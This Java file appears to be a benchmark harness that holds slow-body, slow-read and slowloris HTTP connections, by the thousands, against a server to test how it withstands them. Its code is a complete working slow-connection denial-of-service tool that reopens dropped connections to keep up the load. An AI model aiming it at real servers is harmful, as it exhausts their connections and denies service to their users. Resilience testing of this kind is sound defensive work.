import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/**
 * Slow clients held against an HTTP server, for bench/under-attack.sh: N connections of each kind,
 * each kind from its own local address, kept open (a connection the server closes is opened again on the next
 * tick, so the attack keeps its size for as long as it runs):
 * <ul>
 *   <li>slow-body: {@code POST BODY_PATH} with {@code Content-Length: 1}, and the byte never sent;</li>
 *   <li>slow-read: {@code GET READ_PATH} (a large response) with a 4 KiB receive buffer, one byte read
 *       every 10 s;</li>
 *   <li>slowloris: {@code GET HEAD_PATH} whose head gets one more header line every 5 s and never ends.</li>
 * </ul>
 * One thread, one java.nio selector. Writes READY_FILE once every connection was tried once, runs
 * until STOP_FILE exists, then closes everything and prints one line per kind:
 * {@code RESULT kind=K from=ADDRESS target=N opened=O closed_by_server=C connect_failures=F}.
 *
 * <p>Usage: java bench/SlowClients.java HOST PORT READY_FILE STOP_FILE BODY_PATH READ_PATH HEAD_PATH
 * KIND@FROM_ADDRESS=N... (e.g. slow-body@127.0.0.2=1000 slow-read@127.0.0.3=1000 slowloris@127.0.0.4=1000)
 */
public class SlowClients {
    enum Kind { SLOW_BODY, SLOW_READ, SLOWLORIS }

    static final class Stats {
        InetSocketAddress from;
        int target;
        int opened;
        int closedByServer;
        int connectFailures;
    }

    private final InetSocketAddress server;
    private final Map<Kind, String> opening = new EnumMap<>(Kind.class);
    private final Map<Kind, Stats> stats = new EnumMap<>(Kind.class);
    private final Map<SocketChannel, Kind> open = new HashMap<>();
    private final Selector selector;

    SlowClients(String host, int port, String bodyPath, String readPath, String headPath) throws IOException {
        server = new InetSocketAddress(host, port);
        String hostHeader = "Host: " + host + ":" + port + "\r\n";
        opening.put(Kind.SLOW_BODY, "POST " + bodyPath + " HTTP/1.1\r\n" + hostHeader
                + "Content-Type: application/octet-stream\r\nContent-Length: 1\r\n\r\n");
        opening.put(Kind.SLOW_READ, "GET " + readPath + " HTTP/1.1\r\n" + hostHeader + "\r\n");
        opening.put(Kind.SLOWLORIS, "GET " + headPath + " HTTP/1.1\r\n" + hostHeader);
        selector = Selector.open();
    }

    public static void main(String[] args) throws Exception {
        if (args.length < 8) {
            System.err.println("usage: java bench/SlowClients.java HOST PORT READY_FILE STOP_FILE BODY_PATH READ_PATH "
                    + "HEAD_PATH KIND@FROM_ADDRESS=N...");
            System.exit(2);
        }
        SlowClients c = new SlowClients(args[0], Integer.parseInt(args[1]), args[4], args[5], args[6]);
        for (int i = 7; i < args.length; i++) {
            String[] kindRest = args[i].split("@", 2);
            String[] fromN = kindRest[1].split("=", 2);
            Stats s = c.stats(Kind.valueOf(kindRest[0].toUpperCase().replace('-', '_')));
            s.from = new InetSocketAddress(fromN[0], 0);
            s.target = Integer.parseInt(fromN[1]);
        }
        c.run(Path.of(args[2]), Path.of(args[3]));
    }

    private Stats stats(Kind k) {
        return stats.computeIfAbsent(k, x -> new Stats());
    }

    private int openOf(Kind k) {
        int n = 0;
        for (Kind v : open.values()) {
            if (v == k) {
                n++;
            }
        }
        return n;
    }

    void run(Path ready, Path stop) throws IOException {
        // a front that stops accepting (its backlog full) makes each connect wait for its timeout:
        // the attack is declared in place with what it could open in 30 s, and refilled on every tick
        fill(30_000_000_000L);
        Files.writeString(ready, "ready\n");
        long tick = 0;
        long nextTick = System.nanoTime() + 1_000_000_000L;
        ByteBuffer in = ByteBuffer.allocate(8192);
        while (!Files.exists(stop)) {
            selector.select(250);
            for (SelectionKey key : selector.selectedKeys()) {
                SocketChannel ch = (SocketChannel) key.channel();
                in.clear();
                int n;
                try {
                    n = ch.read(in);
                } catch (IOException e) {
                    n = -1;
                }
                if (n < 0) {
                    lost(ch);
                }
            }
            selector.selectedKeys().clear();
            if (System.nanoTime() - nextTick >= 0) {
                nextTick += 1_000_000_000L;
                tick++;
                tick(tick);
                fill(500_000_000L);
            }
        }
        for (SocketChannel ch : open.keySet()) {
            ch.close();
        }
        for (Kind k : Kind.values()) {
            Stats s = stats(k);
            System.out.printf("RESULT kind=%s from=%s target=%d opened=%d closed_by_server=%d connect_failures=%d%n",
                    k.name().toLowerCase().replace('_', '-'), s.from == null ? "-" : s.from.getHostString(), s.target, s.opened, s.closedByServer, s.connectFailures);
        }
    }

    /** Slowloris: one more header line every 5 s; slow readers: one byte every 10 s (which also shows a close). */
    private void tick(long tick) {
        ByteBuffer one = ByteBuffer.allocate(1);
        for (Map.Entry<SocketChannel, Kind> e : new ArrayList<>(open.entrySet())) {
            SocketChannel ch = e.getKey();
            try {
                if (e.getValue() == Kind.SLOWLORIS && tick % 5 == 0) {
                    ch.write(ByteBuffer.wrap("X-Slow: 1\r\n".getBytes(StandardCharsets.ISO_8859_1)));
                } else if (e.getValue() == Kind.SLOW_READ && tick % 10 == 0) {
                    one.clear();
                    if (ch.read(one) < 0) {
                        lost(ch);
                    }
                }
            } catch (IOException ex) {
                lost(ch);
            }
        }
    }

    private void lost(SocketChannel ch) {
        Kind k = open.remove(ch);
        if (k != null) {
            stats(k).closedByServer++;
        }
        try {
            ch.close();
        } catch (IOException ignored) {
            // already gone
        }
    }

    /**
     * Opens connections, one of each kind in turn, until each kind has its target or the time budget
     * is spent (a connect that fails is tried on the next tick).
     */
    private void fill(long budgetNanos) {
        long deadline = System.nanoTime() + budgetNanos;
        Map<Kind, Integer> missing = new java.util.EnumMap<>(Kind.class);
        for (Kind k : Kind.values()) {
            missing.put(k, stats(k).target - openOf(k));
        }
        boolean any = true;
        while (any && System.nanoTime() - deadline < 0) {
            any = false;
            for (Kind k : Kind.values()) {
                if (missing.get(k) > 0) {
                    missing.merge(k, -1, Integer::sum);
                    connect(k);
                    any = true;
                }
            }
        }
    }

    private void connect(Kind k) {
        SocketChannel ch = null;
        try {
            ch = SocketChannel.open();
            if (k == Kind.SLOW_READ) {
                ch.setOption(StandardSocketOptions.SO_RCVBUF, 4096);
            }
            ch.bind(stats(k).from);
            ch.socket().connect(server, 3000);
            ch.write(ByteBuffer.wrap(opening.get(k).getBytes(StandardCharsets.ISO_8859_1)));
            ch.configureBlocking(false);
            if (k != Kind.SLOW_READ) {
                ch.register(selector, SelectionKey.OP_READ);
            }
            open.put(ch, k);
            stats(k).opened++;
        } catch (IOException e) {
            stats(k).connectFailures++;
            if (ch != null) {
                try {
                    ch.close();
                } catch (IOException ignored) {
                    // never opened
                }
            }
        }
    }
}
